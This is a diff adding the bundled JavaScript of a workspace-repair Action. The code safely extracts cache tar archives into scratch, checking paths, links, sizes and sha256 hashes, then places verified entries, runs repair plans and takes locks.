+ * Unpacking one entry's cache archive into a private scratch directory, member by member, under the
+ * entry's signed expectations: every name must lie inside the entry's own path (as the cache client
+ * archived it, relative to GITHUB_WORKSPACE), nothing is written through a link, nothing but files,
+ * directories and in-entry links is created, and counts and sizes are bounded before a byte is
+ * read. With a per-file expectation (a file's sha256, a tree's signed index) each file is hashed
+ * as it streams out, so a poisoned archive stops at its first wrong member and a good one is proven
+ * without being read again.
+ */
+
+
+
+
+
+
+
+const LIST = 5;
+/** The process umask (reading it sets it, so it is set straight back); all bits when unknown. */
+function currentUmask() {
+    try {
+        const u = process.umask(0o022);
+        process.umask(u);
+        return u;
+    }
+    catch {
+        return 0o777;
+    }
+}
+/** Escape a name from the archive for a one-line report. */
+function extract_shown(name) {
+    const clipped = name.length > 200 ? `${name.slice(0, 200)}…` : name;
+    const plain = [...clipped].every(c => c >= ' ' && c !== '\x7f' && c !== '"' && c !== '\\' && c !== '%');
+    return plain ? clipped : JSON.stringify(clipped);
+}
+class extract_EntryExtractor {
+    prefix;
+    dest;
+    want;
+    records;
+    ignored;
+    seen = new Set();
+    links = new Set();
+    fileHashes = new Map();
+    dirModes = [];
+    members = 0;
+    openFd;
+    bytes = 0;
+    skippedBytes = 0;
+    files = 0;
+    maxMembers;
+    maxSkipped;
+    /**
+     * `prefix`: the entry's path as the archive names it; `dest`: where the entry's root goes in
+     * scratch (its parent exists; `dest` itself must not).
+     */
+    constructor(prefix, dest, want) {
+        this.prefix = prefix;
+        this.dest = dest;
+        this.want = want;
+        if (want.kind === 'indexed') {
+            this.records = new Map(want.records.map(r => [r.rel, r]));
+            this.ignored = ignoreMatcher(want.ignore);
+            const total = want.records.reduce((n, r) => n + r.size, 0);
+            // Ignored members are skipped unwritten; they may not outgrow the tree itself.
+            this.maxSkipped = Math.max(64 * 1024 * 1024, Math.ceil(total / 10));
+            this.maxMembers =
+                want.records.length + 1 + Math.max(1024, Math.ceil(want.records.length / 10));
+        }
+        else {
+            this.maxSkipped = 0;
+            this.maxMembers = want.kind === 'file' ? 1 : want.maxMembers;
+        }
+    }
+    member(m) {
+        if (++this.members > this.maxMembers)
+            throw new Rejected(`more than ${this.maxMembers} members (the recorded bound)`);
+        const rel = this.relOf(m.name);
+        if (m.type === 'other')
+            throw new Rejected(`${flagName(m.flag)} member: ${extract_shown(m.name)}`);
+        if (m.type === 'hardlink')
+            this.linkTarget(m);
+        if (this.records && this.isIgnored(rel)) {
+            this.skippedBytes += m.size;
+            if (this.skippedBytes > this.maxSkipped)
+                throw new Rejected(`ignored members over ${this.maxSkipped} bytes`);
+            return undefined;
+        }
+        if (this.seen.has(rel))
+            throw new Rejected(`duplicate member: ${extract_shown(m.name)}`);
+        this.throughLink(rel, m.name);
+        this.seen.add(rel);
+        const at = { rel, abs: rel === '' ? this.dest : path.join(this.dest, rel) };
+        this.checkShape(at, m);
+        switch (m.type) {
+            case 'dir':
+                return this.dir(at, m);
+            case 'symlink':
+                return this.symlink(at, m);
+            case 'hardlink':
+                return this.hardlink(at, m);
+            default:
+                return this.file(at, m);
+        }
+    }
+    /** Close a file left open by an archive that stopped mid-member. */
+    abort() {
+        if (this.openFd !== undefined)
+            fs.closeSync(this.openFd);
+        this.openFd = undefined;
+    }
+    /** After the archive ended: everything recorded arrived; directory modes applied last. */
+    finish() {
+        if (this.records) {
+            const missing = [...this.records.keys()].filter(r => !this.seen.has(r));
+            if (missing.length > 0)
+                throw new Rejected(`${missing.length} missing: ${missing.slice(0, LIST).map(extract_shown).join(', ')}${missing.length > LIST ? ', …' : ''}`);
+        }
+        else if (!this.seen.has('')) {
+            throw new Rejected('the archive does not hold the entry');
+        }
+        for (const [abs, mode] of this.dirModes.reverse())
+            fs.chmodSync(abs, mode);
+        return {
+            members: this.members,
+            bytes: this.bytes,
+            proven: this.want.kind !== 'bounded',
+            files: this.files
+        };
+    }
+    relOf(name) {
+        if (name.startsWith('/'))
+            throw new Rejected(`absolute member name: ${extract_shown(name)}`);
+        let rel;
+        if (name === this.prefix || name === `${this.prefix}/`)
+            rel = '';
+        else if (name.startsWith(`${this.prefix}/`))
+            rel = name.slice(this.prefix.length + 1);
+        else if (name.split('/').includes('..') && !this.prefix.split('/').includes('..'))
+            throw new Rejected(`member climbs out with "..": ${extract_shown(name)}`);
+        else
+            throw new Rejected(`member outside the entry's path: ${extract_shown(name)}`);
+        rel = rel.replace(/\/+$/, '');
+        if (rel !== '' && rel.split('/').some(c => c === '' || c === '.' || c === '..'))
+            throw new Rejected(`member name with "", "." or "..": ${extract_shown(name)}`);
+        return rel;
+    }
+    isIgnored(rel) {
+        if (rel === '' || !this.ignored)
+            return false;
+        const parts = rel.split('/');
+        for (let i = 1; i <= parts.length; i++)
+            if (this.ignored(parts.slice(0, i).join('/'), parts[i - 1] ?? ''))
+                return true;
+        return false;
+    }
+    /** A member below a link created from this archive would be written through that link. */
+    throughLink(rel, name) {
+        if (this.links.size === 0)
+            return;
+        let at = rel;
+        for (let cut = at.lastIndexOf('/'); cut > 0; cut = at.lastIndexOf('/')) {
+            at = at.slice(0, cut);
+            if (this.links.has(at))
+                throw new Rejected(`member written through a link: ${extract_shown(name)}`);
+        }
+        if (rel !== '' && this.links.has(''))
+            throw new Rejected(`member written through a link: ${extract_shown(name)}`);
+    }
+    checkShape(at, m) {
+        const w = this.want;
+        if (w.kind === 'file') {
+            if (at.rel !== '' || m.type !== 'file')
+                throw new Rejected(`unexpected ${m.type} member: ${extract_shown(m.name)} (the entry is one file)`);
+            if (m.size !== w.size)
+                throw new Rejected(`size ${m.size}, recorded ${w.size}`);
+            if (m.mode !== w.mode)
+                throw new Rejected(`mode ${modeText(m.mode)}, recorded ${modeText(w.mode)}`);
+            return;
+        }
+        if (w.kind === 'bounded') {
+            if (w.single && at.rel !== '')
+                throw new Rejected(`unexpected member: ${extract_shown(m.name)} (the entry is not a directory)`);
+            if (this.bytes + m.size > w.maxBytes)
+                throw new Rejected(`over ${w.maxBytes} bytes (the recorded bound)`);
+            return;
+        }
+        if (at.rel === '') {
+            if (m.type !== 'dir')
+                throw new Rejected(`the tree's root is a ${m.type} in the archive`);
+            return;
+        }
+        const r = this.records?.get(at.rel);
+        if (!r)
+            throw new Rejected(`extra ${m.type === 'dir' ? 'directory' : m.type}: ${extract_shown(at.rel)}`);
+        const type = m.type === 'dir' ? 'd' : m.type === 'symlink' ? 'l' : 'f';
+        if (type !== r.type)
+            throw new Rejected(`${extract_shown(at.rel)}: ${m.type} in the archive, recorded as type ${r.type}`);
+        if (type === 'f' && m.type === 'file' && m.size !== r.size)
+            throw new Rejected(`${extract_shown(at.rel)}: size ${m.size}, recorded ${r.size}`);
+        if (type !== 'l' && m.mode !== r.mode)
+            throw new Rejected(`${extract_shown(at.rel)}: mode ${modeText(m.mode)}, recorded ${modeText(r.mode)}`);
+        if (type === 'l' && m.linkname !== r.extra)
+            throw new Rejected(`${extract_shown(at.rel)}: link target differs from the recorded one`);
+    }
+    /** Directories known to exist in scratch: one mkdir per directory, not one per member. */
+    made = new Set();
+    umask = currentUmask();
+    ensureParent(abs) {
+        const parent = path.dirname(abs);
+        if (this.made.has(parent))
+            return;
+        // Parents are created here, inside the private scratch directory, never followed links.
+        fs.mkdirSync(parent, { recursive: true, mode: 0o700 });
+        this.made.add(parent);
+    }
+    dir(at, m) {
+        this.ensureParent(at.abs);
+        fs.mkdirSync(at.abs, { mode: 0o700 });
+        this.made.add(at.abs);
+        this.dirModes.push([
+            at.abs,
+            at.rel === '' || !this.records ? m.mode : (this.records.get(at.rel)?.mode ?? m.mode)
+        ]);
+        return undefined;
+    }
+    symlink(at, m) {
+        if (this.want.kind === 'bounded' || this.want.kind === 'file') {
+            // Unindexed: a link may only point inside the entry (a link entry's own target is checked
+            // by the verifier on the scratch copy).
+            const isRoot = at.rel === '';
+            const resolved = path.posix.normalize(path.posix.join(path.posix.dirname(at.rel), m.linkname));
+            if (!isRoot &&
+                (m.linkname.startsWith('/') || resolved === '..' || resolved.startsWith('../')))
+                throw new Rejected(`link escapes the entry: ${extract_shown(m.name)} -> ${extract_shown(m.linkname)}`);
+        }
+        this.ensureParent(at.abs);
+        fs.symlinkSync(m.linkname, at.abs);
+        this.links.add(at.rel);
+        this.files++;
+        return undefined;
+    }
+    /** A hard link's target as a path inside the entry; one that leaves it is refused. */
+    linkTarget(m) {
+        try {
+            return this.relOf(m.linkname);
+        }
+        catch {
+            throw new Rejected(`hard link out of the entry: ${extract_shown(m.name)} -> ${extract_shown(m.linkname)}`);
+        }
+    }
+    hardlink(at, m) {
+        const target = this.linkTarget(m);
+        const sum = this.fileHashes.get(target);
+        if (sum === undefined)
+            throw new Rejected(`hard link to no extracted file: ${extract_shown(m.name)} -> ${extract_shown(m.linkname)}`);
+        const r = this.records?.get(at.rel);
+        if (this.records && r?.extra !== sum)
+            throw new Rejected(`${extract_shown(at.rel)}: content differs from the recorded sha256`);
+        if (this.want.kind === 'file')
+            throw new Rejected('a hard link where one file is recorded');
+        this.ensureParent(at.abs);
+        // A copy, not a link: the placed tree shares no inode with anything.
+        fs.copyFileSync(path.join(this.dest, target), at.abs, fs.constants.COPYFILE_EXCL);
+        this.fileHashes.set(at.rel, sum);
+        this.files++;
+        return undefined;
+    }
+    file(at, m) {
+        this.ensureParent(at.abs);
+        const fd = fs.openSync(at.abs, fs.constants.O_WRONLY | fs.constants.O_CREAT | fs.constants.O_EXCL | fs.constants.O_NOFOLLOW, m.mode & 0o777);
+        this.openFd = fd;
+        // open() applies the umask: fix the mode only when it took something away (rarely).
+        const fixMode = (m.mode & ~this.umask & 0o777) !== m.mode;
+        const want = this.want.kind === 'file' ? this.want.sha256 : this.records?.get(at.rel)?.extra;
+        const hash = createHash('sha256');
+        this.files++;
+        return {
+            write: chunk => {
+                this.bytes += chunk.length;
+                hash.update(chunk);
+                let off = 0;
+                while (off < chunk.length)
+                    off += fs.writeSync(fd, chunk, off, chunk.length - off);
+            },
+            end: () => {
+                const sum = hash.digest('hex');
+                this.openFd = undefined;
+                try {
+                    if (fixMode)
+                        fs.fchmodSync(fd, m.mode);
+                }
+                finally {
+                    fs.closeSync(fd);
+                }
+                if (this.want.kind !== 'bounded' && sum !== want)
+                    throw new Rejected(`${at.rel === '' ? 'the file' : extract_shown(at.rel)}: content differs from the recorded sha256`);
+                this.fileHashes.set(at.rel, sum);
+            }
+        };
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/place.ts
+/**
+ * Moving a proven entry from scratch into the workspace: every parent between the workspace and
+ * the target must be a real directory (a link planted in the workspace is refused, not followed),
+ * missing parents are created one by one, and the old target is renamed aside before the new one
+ * is renamed in, so a failure puts the old one back and a success removes it.
+ */
+
+
+
+
+
+/** Create or check each parent of `target` below `workspace`; none may be a link. */
+function safeParents(workspace, target) {
+    const rel = path.relative(workspace, path.dirname(target));
+    if (rel.startsWith('..') || path.isAbsolute(rel))
+        throw new Rejected(`the target is outside the workspace: ${shown(target)}`);
+    let at = workspace;
+    for (const part of rel === '' ? [] : rel.split(path.sep)) {
+        at = path.join(at, part);
+        let st;
+        try {
+            st = fs.lstatSync(at);
+        }
+        catch (err) {
+            if (err.code !== 'ENOENT')
+                throw err;
+        }
+        if (!st)
+            fs.mkdirSync(at, { mode: 0o755 });
+        else if (st.isSymbolicLink())
+            throw new Rejected(`not placed: ${shown(path.relative(workspace, at))} is a symbolic link`);
+        else if (!st.isDirectory())
+            throw new Rejected(`not placed: ${shown(path.relative(workspace, at))} is not a directory`);
+    }
+}
+/** Same filesystem: rename. Else copy beside the target first (links kept as links), then rename. */
+function stageBeside(from, target) {
+    const staged = path.join(path.dirname(target), `.swr-new-${randomBytes(6).toString('hex')}`);
+    try {
+        fs.renameSync(from, staged);
+    }
+    catch (err) {
+        if (err.code !== 'EXDEV')
+            throw err;
+        fs.cpSync(from, staged, { recursive: true, verbatimSymlinks: true, preserveTimestamps: true });
+    }
+    return staged;
+}
+/** Put `from` (in scratch) at `target` (in the workspace). */
+function place_place(workspace, from, target) {
+    safeParents(workspace, target);
+    const staged = stageBeside(from, target);
+    let aside;
+    try {
+        if (fs.existsSync(target) || isLink(target)) {
+            aside = path.join(path.dirname(target), `.swr-old-${randomBytes(6).toString('hex')}`);
+            fs.renameSync(target, aside);
+        }
+        fs.renameSync(staged, target);
+    }
+    catch (err) {
+        if (aside && !fs.existsSync(target))
+            fs.renameSync(aside, target);
+        fs.rmSync(staged, { recursive: true, force: true });
+        throw err;
+    }
+    if (aside)
+        fs.rmSync(aside, { recursive: true, force: true });
+}
+function isLink(p) {
+    try {
+        return fs.lstatSync(p).isSymbolicLink();
+    }
+    catch {
+        return false;
+    }
+}
+
+// EXTERNAL MODULE: external "node:stream"
+var external_node_stream_ = __nccwpck_require__(7075);
+;// CONCATENATED MODULE: ./src/core/restore/cache/unpack.ts
+/**
+ * Streaming one compressed cache archive through decompression into the tar reader, stopping the
+ * download as soon as the reader refuses a member or has read the end of the archive. zstd is
+ * decoded by Node's zlib where it has it (Node 22.15+/24, the Action's runtime), else by a `zstd`
+ * binary at a fixed system path (never one found through PATH, which a workspace can prepend to).
+ */
+
+
+
+
+
+
+const ZSTD_PATHS = (/* unused pure expression or super */ null && (['/usr/bin/zstd', '/bin/zstd', '/usr/local/bin/zstd', '/opt/homebrew/bin/zstd']));
+function zstdBinary() {
+    return ZSTD_PATHS.find(p => {
+        try {
+            fs.accessSync(p, fs.constants.X_OK);
+            return true;
+        }
+        catch {
+            return false;
+        }
+    });
+}
+function decompressor(compression) {
+    if (compression === 'gzip')
+        return zlib.createGunzip();
+    const native = zlib.createZstdDecompress;
+    if (native)
+        return native();
+    const bin = zstdBinary();
+    if (!bin)
+        throw new Rejected('a zstd archive, and neither Node nor the system has zstd');
+    const child = spawn(bin, ['-d', '-c', '-q'], { stdio: ['pipe', 'pipe', 'pipe'] });
+    let err = '';
+    child.stderr.on('data', (c) => (err = (err + c.toString('utf8')).slice(-400)));
+    const duplex = Duplex.from({ writable: child.stdin, readable: child.stdout });
+    child.on('close', code => {
+        if (code !== 0 && code !== null)
+            duplex.destroy(new Error(err.trim().split('\n').pop() || `zstd exited ${code}`));
+    });
+    child.stdin.on('error', () => undefined);
+    duplex.on('close', () => child.kill());
+    return duplex;
+}
+/**
+ * Feed `source` (compressed) to a tar reader driving `handlers`. Resolves when the archive ended
+ * cleanly; rejects with a Rejected naming why not. The source is destroyed either way.
+ */
+async function unpack_unpack(source, compression, handlers) {
+    const reader = new TarReader(handlers);
+    let dec;
+    let sourceError;
+    source.on('error', e => (sourceError = e));
+    try {
+        dec = decompressor(compression);
+        source.pipe(dec);
+        for await (const chunk of dec) {
+            reader.write(chunk);
+            if (reader.done)
+                break;
+        }
+        if (!reader.done) {
+            if (sourceError)
+                throw new Rejected(`download failed: ${sourceError.message}`);
+            reader.finish();
+        }
+    }
+    catch (err) {
+        if (err instanceof Rejected)
+            throw err;
+        if (sourceError)
+            throw new Rejected(`download failed: ${oneLine(sourceError)}`);
+        throw new Rejected(`truncated or corrupt archive (${oneLine(err)})`);
+    }
+    finally {
+        source.unpipe();
+        source.destroy();
+        dec?.destroy();
+    }
+}
+function oneLine(err) {
+    const text = err instanceof Error ? err.message : String(err);
+    return text.split('\n')[0]?.slice(0, 200) ?? '';
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/restore.ts
+/**
+ * One cache restore of one entry, end to end: a fresh private scratch directory, the archive
+ * streamed into it under the entry's signed expectations (extract.ts), the scratch copy proven
+ * (while extracting, or by the verifier when nothing per-file is recorded), and only then placed
+ * (place.ts). A refused archive leaves the workspace as it was and says why in one line.
+ */
+
+
+
+
+
+
+
+
+/** Trees recorded without an index (imported from format 2) have no byte count: this bounds them. */
+const LOOSE_TREE_MAX_BYTES = (/* unused pure expression or super */ null && (16 * 1024 * 1024 * 1024));
+const LOOSE_TREE_MAX_MEMBERS = 2_000_000;
+function expectationOf(e, ctx) {
+    switch (e.kind) {
+        case 'file':
+            return {
+                kind: 'file',
+                size: e.expect.size,
+                sha256: e.expect.sha256,
+                mode: parseMode(e.expect.mode)
+            };
+        case 'blob':
+            return { kind: 'bounded', maxMembers: 1, maxBytes: e.expect.size, single: true };
+        case 'link':
+            return { kind: 'bounded', maxMembers: 1, maxBytes: 0, single: true };
+        case 'tree': {
+            const records = e.expect.index ? ctx.readIndex(e.id, e.expect.index) : undefined;
+            if (records)
+                return { kind: 'indexed', records, ignore: e.ignore };
+            const files = e.expect.max_files ?? e.expect.files;
+            return {
+                kind: 'bounded',
+                // Directories are members too: allow as many again, plus a margin.
+                maxMembers: files !== undefined ? files * 2 + 64 : LOOSE_TREE_MAX_MEMBERS,
+                maxBytes: LOOSE_TREE_MAX_BYTES,
+                single: false
+            };
+        }
+    }
+}
+const PROVEN = 'restored from the cache, every byte verified while extracting';
+/** A finding made by a verifying extraction (not by reading the placed entry again). */
+function restore_isProven(f) {
+    return f?.status === 'OK' && f.detail.startsWith(PROVEN);
+}
+function provenFinding(e, files, bytes) {
+    return {
+        id: e.id,
+        kind: e.kind,
+        path: e.path,
+        tier: e.tier,
+        status: 'OK',
+        reason: 'ok',
+        detail: `${PROVEN} (${files} files, ${bytes} bytes)`,
+        recorded: {},
+        found: { files, bytes },
+        cached: false
+    };
+}
+/** Make a fresh 0700 scratch directory below `base`. */
+function restore_makeScratch(base, name) {
+    fs.mkdirSync(base, { recursive: true });
+    const dir = fs.mkdtempSync(path.join(base, `${name}-`));
+    fs.chmodSync(dir, 0o700);
+    return dir;
+}
+function reasonOf(err) {
+    if (err instanceof Rejected)
+        return err.message;
+    const e = err;
+    return `${e.code ?? 'error'}: ${(e.message ?? String(err)).split('\n')[0]}`;
+}
+async function restore_restoreEntry(e, archive, ctx) {
+    const scratch = restore_makeScratch(ctx.scratchBase, 'swr-restore');
+    try {
+        const root = path.join(scratch, 'w');
+        const dest = resolveEntryPath(root, e.path);
+        fs.mkdirSync(path.dirname(dest), { recursive: true, mode: 0o700 });
+        const extractor = new EntryExtractor(archive.prefix, dest, expectationOf(e, ctx));
+        try {
+            await unpack(await archive.open(), archive.compression, extractor);
+        }
+        finally {
+            extractor.abort();
+        }
+        const summary = extractor.finish();
+        let finding;
+        if (summary.proven)
+            finding = provenFinding(e, summary.files, summary.bytes);
+        else {
+            const f = await ctx.verifyAt(root, e);
+            if (f.status !== 'OK')
+                throw new Rejected(`${f.status}: ${f.detail}`);
+        }
+        place(ctx.workspace, dest, resolveEntryPath(ctx.workspace, e.path));
+        return { placed: true, finding, members: summary.members, bytes: summary.bytes };
+    }
+    catch (err) {
+        return { placed: false, reason: reasonOf(err) };
+    }
+    finally {
+        restore_removeScratch(scratch);
+    }
+}
+/** Remove a scratch directory, even one holding directories restored without write permission. */
+function restore_removeScratch(dir) {
+    try {
+        fs.rmSync(dir, { recursive: true, force: true });
+    }
+    catch {
+        const open = (d) => {
+            fs.chmodSync(d, 0o700);
+            for (const ent of fs.readdirSync(d, { withFileTypes: true }))
+                if (ent.isDirectory())
+                    open(path.join(d, ent.name));
+        };
+        open(dir);
+        fs.rmSync(dir, { recursive: true, force: true });
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/runner.ts
+/**
+ * Carrying out a repair plan: wave by wave (steps of a wave in parallel up to `jobs`), each step
+ * from its source (escrow, then recipe), each restored entry re-verified at once without the
+ * cache. A step whose dependency did not heal is SKIPPED, never attempted. The caller must have
+ * asked the gate first; this module refuses to run without an allowed decision.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+const DEFAULT_TIMEOUT_S = 1800;
+const DEFAULT_SHELL = (/* unused pure expression or super */ null && (['bash', '-c']));
+async function runner_runPlan(opts) {
+    if (!opts.gate.allowed)
+        throw new InternalError('runPlan called without an allowed gate decision');
+    const entries = new Map(opts.manifest.body.entries.map(e => [e.id, e]));
+    const results = new Map();
+    const limit = pLimit(Math.max(1, opts.jobs ?? 1));
+    for (const wave of opts.plan.waves) {
+        await Promise.all(wave.map(step => limit(async () => {
+            const entry = entries.get(step.id);
+            if (!entry)
+                throw new InternalError(`plan names unknown entry ${step.id}`);
+            const r = await runStep(step, entry, results, opts);
+            results.set(step.id, r);
+            opts.journal?.append({
+                id: r.id,
+                outcome: r.outcome,
+                at: (opts.now?.() ?? new Date()).toISOString()
+            });
+            opts.onStep?.(r);
+        })));
+    }
+    return planSteps(opts.plan).map(s => results.get(s.id));
+}
+/** Quarantine is evidence-keeping: failing to copy must not stop the repair, only be reported. */
+function safeQuarantine(entry, opts) {
+    if (!opts.quarantine)
+        return undefined;
+    try {
+        return quarantine(opts.manifest.workspace, opts.quarantine.stateDir, entry, opts.now?.() ?? new Date(), opts.quarantine);
+    }
+    catch (err) {
+        return {
+            skipped: `copy failed: ${err instanceof Error ? (err.code ?? err.message) : String(err)}`
+        };
+    }
+}
+/** Escrow first (local, no code), then the state saved for exactly these expectations, then the declared sources. */
+function sourcesFor(entry, cache) {
+    const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
+    if (cache)
+        out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], auto: true });
+    for (const src of restoreSources(entry)) {
+        out.push(typeof src === 'string'
+            ? { kind: 'recipe', command: src }
+            : {
+                kind: 'cache',
+                key: src.cache.key,
+                restoreKeys: src.cache['restore-keys'] ?? [],
+                auto: false
+            });
+    }
+    return out;
+}
+async function runStep(step, entry, done, opts) {
+    const base = { id: step.id, source: step.source };
+    if (opts.abort?.aborted)
+        return { ...base, outcome: 'interrupted', detail: 'not started: interrupted', attempts: [] };
+    const failedDep = step.after.find(d => {
+        const o = done.get(d)?.outcome;
+        return o !== 'repaired' && o !== 'already-repaired';
+    });
+    if (failedDep)
+        return { ...base, outcome: 'skipped', detail: `dependency failed: ${failedDep}`, attempts: [] };
+    if (opts.alreadyRepaired?.has(step.id)) {
+        const [after] = await opts.reverify([entry]);
+        if (after?.status === 'OK')
+            return {
+                ...base,
+                outcome: 'already-repaired',
+                detail: 'repaired by the interrupted run',
+                after,
+                attempts: []
+            };
+    }
+    const sources = sourcesFor(entry, opts.cache);
+    if (sources.length === 0)
+        return {
+            ...base,
+            outcome: 'unrepairable',
+            detail: 'no restore source (recipe, cache or escrow)',
+            attempts: []
+        };
+    const q = opts.quarantine ? safeQuarantine(entry, opts) : undefined;
+    const attempts = [];
+    let recipe;
+    let after;
+    let ranCleanly = false;
+    for (const src of sources) {
+        const tried = await trySource(src, entry, opts);
+        if (tried.recipe)
+            recipe = tried.recipe;
+        if (tried.attempt.outcome === 'interrupted') {
+            attempts.push(tried.attempt);
+            return {
+                ...base,
+                outcome: 'interrupted',
+                detail: tried.attempt.detail,
+                attempts,
+                ...(recipe ? { recipe } : {}),
+                ...(q ? { quarantine: q } : {})
+            };
+        }
+        if (tried.attempt.outcome === 'miss' ||
+            tried.attempt.outcome === 'failed' ||
+            tried.attempt.outcome === 'skipped' ||
+            tried.attempt.outcome === 'not-healed') {
+            // A refused cache archive never reached the workspace: nothing to re-verify.
+            attempts.push(tried.attempt);
+            continue;
+        }
+        // An archive proven byte by byte while it was extracted needs no second read.
+        ;
+        [after] = tried.proven ? [tried.proven] : await opts.reverify([entry]);
+        const healed = after?.status === 'OK';
+        ranCleanly ||= src.kind === 'recipe';
+        attempts.push({
+            ...tried.attempt,
+            outcome: healed ? 'healed' : 'not-healed',
+            ...(healed
+                ? {}
+                : {
+                    detail: `${tried.attempt.detail}, but still ${after?.status ?? 'damaged'}: ${after?.detail ?? ''}`
+                })
+        });
+        if (healed) {
+            return {
+                id: step.id,
+                source: src.kind,
+                outcome: 'repaired',
+                detail: tried.attempt.detail,
+                attempts,
+                ...(after ? { after } : {}),
+                ...(recipe ? { recipe } : {}),
+                ...(q ? { quarantine: q } : {})
+            };
+        }
+    }
+    const last = attempts[attempts.length - 1];
+    return {
+        ...base,
+        outcome: ranCleanly ? 'still-damaged' : 'failed',
+        detail: attempts.length > 1
+            ? attempts.map(a => `${a.source}: ${a.detail}`).join('; ')
+            : (last?.detail ?? ''),
+        attempts,
+        ...(after ? { after } : {}),
+        ...(recipe ? { recipe } : {}),
+        ...(q ? { quarantine: q } : {})
+    };
+}
+/** Scratch below RUNNER_TEMP (private to the job), else the system temp directory. */
+function defaultRestore(opts) {
+    return {
+        scratchBase: opts.callerEnv.RUNNER_TEMP || os.tmpdir(),
+        readIndex: (id, ref) => readIndex(indexPath(opts.manifest.file, id), ref),
+        verifyAt: async (root, e) => {
+            const [f] = await opts.reverifyAt(root, [e]);
+            if (!f)
+                throw new InternalError(`no finding for ${e.id}`);
+            return f;
+        }
+    };
+}
+async function trySource(src, entry, opts) {
+    const abs = resolveEntryPath(opts.manifest.workspace, entry.path);
+    switch (src.kind) {
+        case 'escrow':
+            if (entry.kind !== 'file')
+                return {
+                    attempt: { source: 'escrow', outcome: 'failed', detail: 'escrow on a non-file entry' }
+                };
+            try {
+                restoreFromEscrow(opts.manifest.workspace, entry);
+                return { attempt: { source: 'escrow', outcome: 'healed', detail: 'restored from escrow' } };
+            }
+            catch (err) {
+                if (!(err instanceof SwrError) && !(err instanceof Error && 'code' in err))
+                    throw err;
+                return {
+                    attempt: {
+                        source: 'escrow',
+                        outcome: 'failed',
+                        detail: err instanceof Error ? err.message : String(err)
+                    }
+                };
+            }
+        case 'cache': {
+            if (!opts.cache)
+                return {
+                    attempt: {
+                        source: 'cache',
+                        outcome: 'skipped',
+                        key: src.key,
+                        detail: `cache ${src.key} skipped: no Actions cache service here`
+                    }
+                };
+            const hit = await opts.cache.find(abs, src.key, src.restoreKeys);
+            if (!hit)
+                return {
+                    attempt: {
+                        source: 'cache',
+                        outcome: 'miss',
+                        key: src.key,
+                        detail: `cache miss for ${src.key}${src.auto ? ' (saved state)' : ''}`
+                    }
+                };
+            const how = `cache ${hit.exact ? 'exact hit' : `restore-keys prefix hit ${hit.matchedKey}`}${src.auto ? ' (saved state)' : ''}`;
+            const r = await restoreEntry(entry, hit, {
+                workspace: opts.manifest.workspace,
+                ...(opts.cacheRestore ?? defaultRestore(opts))
+            });
+            const base = {
+                source: 'cache',
+                key: src.key,
+                matchedKey: hit.matchedKey,
+                exact: hit.exact
+            };
+            if (!r.placed)
+                return {
+                    attempt: { ...base, outcome: 'not-healed', detail: `${how} rejected: ${r.reason}` }
+                };
+            return {
+                attempt: { ...base, outcome: 'healed', detail: how },
+                ...(r.finding ? { proven: r.finding } : {})
+            };
+        }
+        case 'recipe': {
+            const timeoutS = opts.timeoutS ?? entry.timeout_s ?? DEFAULT_TIMEOUT_S;
+            const secrets = (entry.secret_env ?? [])
+                .map(n => opts.callerEnv[n])
+                .filter((v) => v !== undefined);
+            const result = await runRecipe({
+                id: entry.id,
+                command: src.command,
+                shell: opts.manifest.body.shell ?? DEFAULT_SHELL,
+                cwd: opts.manifest.workspace,
+                env: minimalEnv(opts.callerEnv, [...(entry.env ?? []), ...(entry.secret_env ?? [])]),
+                timeoutMs: timeoutS * 1000
+            }, { abort: opts.abort, onLine: opts.onLine, scrub: makeScrubber(secrets) });
+            const { id: _id, ...recipe } = result;
+            const how = `recipe ${describeResult(result, timeoutS * 1000)}`;
+            if (result.interrupted)
+                return { recipe, attempt: { source: 'recipe', outcome: 'interrupted', detail: how } };
+            if (result.timedOut || result.exitCode !== 0)
+                return { recipe, attempt: { source: 'recipe', outcome: 'failed', detail: how } };
+            return { recipe, attempt: { source: 'recipe', outcome: 'healed', detail: how } };
+        }
+    }
+}
+
+// EXTERNAL MODULE: ./node_modules/proper-lockfile/index.js
+var proper_lockfile = __nccwpck_require__(3648);
+;// CONCATENATED MODULE: ./src/core/state/lock.ts
+/**
+ * One exclusive lock per subject, in the private state directory: the manifest file (serialises
+ * doctor/restore and every manifest-editing command; taken before the manifest is read, so keyed
+ * by its path) and the workspace (so two manifests describing one directory never run recipes in
+ * it at once). A waiting run says so once and gives up after a bounded time.
+ *
+ * Staleness is decided by whether the holder lives, not by how recently it refreshed: a holder on
+ * this host whose process is alive (its pid answers signal 0 and its start time is the one it
+ * recorded, so a reused pid does not count) keeps the lock however long its event loop is busy.
+ * Only a lock without a readable holder note, or held from another host, falls back to the
+ * refresh time (`staleMs`). Losing the lock anyway (its file removed, as a wipe of the state
+ * directory does, or taken over) is reported through `onLost`, never thrown from a timer.
+ */
+
+
+
+
+// Loaded at start-up on purpose: the signal-exit handlers it installs must precede the CLI's own
+// SIGINT/SIGTERM handlers, or a signal re-raised by signal-exit ends swr before it can exit 130.
+
+
+
+
+/**
+ * One spelling per file: symlinked paths to the same manifest must take the same lock (and the
+ * same rollback memory). A file not created yet is spelled through its directory's real path.
+ */
+function canonicalPath(subject) {
+    const abs = external_node_path_default().resolve(subject);
+    try {
+        return external_node_fs_default().realpathSync(abs);
+    }
+    catch {
+        try {
+            return external_node_path_default().join(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_path_default().basename(abs));
+        }
+        catch {
+            return abs;
+        }
+    }
+}
+const lock_sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/** proper-lockfile's own mtime staleness is switched off (a day); this module decides instead. */
+const LIBRARY_STALE_MS = (/* unused pure expression or super */ null && (24 * 3600 * 1000));
+const REFRESH_MS = 2000;
+async function lockWorkspace(opts) {
+    const dir = ensurePrivateDir(opts.stateDir, 'locks');
+    const key = createHash('sha256').update(canonicalPath(opts.subject)).digest('hex').slice(0, 32);
+    const target = path.join(dir, key);
+    const lockDir = `${target}.lock`;
+    const info = path.join(dir, `${key}.holder`);
+    const deadline = Date.now() + opts.waitMs;
+    let warned = false;
+    for (;;) {
+        try {
+            const release = await lockfile.lock(target, {
+                realpath: false,
+                lockfilePath: lockDir,
+                stale: LIBRARY_STALE_MS,
+                update: REFRESH_MS,
